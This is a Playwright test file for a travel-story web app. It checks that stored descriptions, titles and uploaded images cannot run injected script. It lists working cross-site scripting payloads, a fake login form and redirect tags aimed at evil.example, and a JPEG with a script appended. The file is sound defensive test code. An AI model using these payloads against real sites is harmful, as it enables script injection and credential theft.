import { createPerson } from '../../api/people.ts';
import { createPlace, createStory, PLACES, STORIES } from '../../api/stories.ts';
import { phonePhoto } from '../../fixtures/photos.ts';
import { expect, test } from '../../fixtures/test.ts';

const HOSTILE = [
  '<script>window.pwned = 1</script>',
  '<img src=x onerror="window.pwned = 2">',
  '<svg onload="window.pwned = 3"><a xlink:href="javascript:window.pwned=4"><text>x</text></a></svg>',
  '<a href="javascript:window.pwned = 5">press</a>',
  '<a href="data:text/html,<script>window.pwned=6</script>">press</a>',
  '<iframe srcdoc="<script>parent.pwned = 7</script>"></iframe>',
  '<math><mtext><table><mglyph><style><img src=x onerror="window.pwned = 8"></style></mglyph></table></mtext></math>',
  '<form action="https://evil.example"><input name="password"><button>Sign in</button></form>',
  '<style>* { display: none !important }</style>',
  '<p style="position:fixed;inset:0;background:red" id="app" class="ant-modal" onclick="window.pwned = 9">over all</p>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x">',
  '<noscript><p title="</noscript><img src=x onerror=window.pwned=10>"></noscript>',
];

test.describe('without the content policy', () => {
  // So that only the page's own cleaning stands between the text and the reader.
  test.use({ bypassCSP: true });

  test('hostile HTML that came into the database all the same is not executed', async ({ page, api }) => {
    const owner = await createPerson(api);
    const storyId = await createStory(api, owner, { title: 'Poisoned' });
    const description = `<p>Before</p>${HOSTILE.join('')}<p>After</p>`;
    await page.route(`**${STORIES}*`, async (route) => {
      const answer = await route.fetch();
      const body = (await answer.json()) as { items: { id: string; description: string }[] };
      await route.fulfill({
        response: answer,
        json: { ...body, items: body.items.map((item) => ({ ...item, description })) },
      });
    });
    await page.route(`**${STORIES}/${storyId}*`, async (route) => {
      const answer = await route.fetch();
      await route.fulfill({ response: answer, json: { ...((await answer.json()) as object), description } });
    });

    await page.goto(`/travel-story/${storyId}`);
    await expect(page.getByText('Before')).toBeVisible();
    await expect(page.getByText('over all')).toHaveCSS('position', 'static');
    await page.getByText('press').first().click();
    await page.goto('/');
    await expect(page.getByRole('button', { name: 'Description' }).first()).toBeVisible();
    for (const header of await page.getByRole('button', { name: 'Description' }).all()) await header.click();
    await expect(page.locator('main').getByText('Before').first()).toBeVisible();
    expect(await page.evaluate(() => Reflect.get(window, 'pwned') as unknown)).toBeUndefined();
    await expect(
      page.locator('main :is(script, iframe, object, embed, form[action*="evil"], base)'),
    ).toHaveCount(0);
  });
});

test('titles and texts are shown as they were typed, markup included', async ({ page, api }) => {
  const owner = await createPerson(api, { name: '<b>Bold</b> name' });
  const storyId = await createStory(api, owner, { title: '<img src=x onerror=alert(1)>' });
  await createPlace(api, owner, storyId, { title: '<script>1</script>', subtext: '<i>not italic</i>' });
  await page.goto(`/travel-story/${storyId}`);
  await expect(page.getByRole('heading', { level: 1, name: '<img src=x onerror=alert(1)>' })).toBeVisible();
  await expect(page.getByText('<i>not italic</i>')).toBeVisible();
  await expect(page.getByText('by <b>Bold</b> name')).toBeVisible();
});

test('a picture that is a page as well comes out a picture alone, in a sandbox', async ({ api }) => {
  const owner = await createPerson(api);
  const storyId = await createStory(api, owner);
  const { buffer } = await phonePhoto();
  const both = Buffer.concat([buffer, Buffer.from('<script>alert("tail")</script>')]);
  const placeId = await createPlace(api, owner, storyId, { main_picture: both });
  const { body } = await api.call('GET', `${PLACES}/${placeId}`);
  const path = `/api/files/${String(body.collectionId)}/${placeId}/${String(body.main_picture)}`;
  const { bytes, headers } = await api.bytes(path);
  expect(bytes.includes('<script>')).toBe(false);
  expect(headers.get('content-type')).toBe('image/jpeg');
  expect(headers.get('x-content-type-options')).toBe('nosniff');
  expect(headers.get('content-security-policy')).toContain('sandbox');
});
